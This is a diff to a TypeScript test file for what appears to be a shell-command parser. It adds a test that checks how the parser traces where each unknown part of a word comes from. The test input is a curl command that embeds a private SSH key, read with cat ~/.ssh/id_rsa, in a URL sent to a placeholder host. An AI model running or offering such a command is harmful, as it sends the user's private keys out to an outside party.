@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { filledIn } from '../../src/model/command.ts';
 import { commands, placed, read } from './helper.ts';
 
 function reached(text: string): readonly string[] {
@@ -85,6 +86,12 @@ describe('shell loops', () => {
       assert.deepEqual(commands(text), expected);
     });
   }
+
+  it('says of a word with several unknown parts where each comes from', () => {
+    const last = read('curl "https://x.example/$T?k=$(cat ~/.ssh/id_rsa)"').commands.at(-1);
+    assert.equal(last?.args[0]?.source, '$T\n$(cat ~/.ssh/id_rsa)');
+    assert.equal(filledIn(last?.args[0]?.text ?? '', last?.args[0]?.source), 'https://x.example/$T?k=$(cat ~/.ssh/id_rsa)');
+  });
 
   it('says where the lines come from that it cannot know', () => {
     const last = read('find . -name "*.o" | while read -r f; do rm "$f"; done').commands.at(-1);
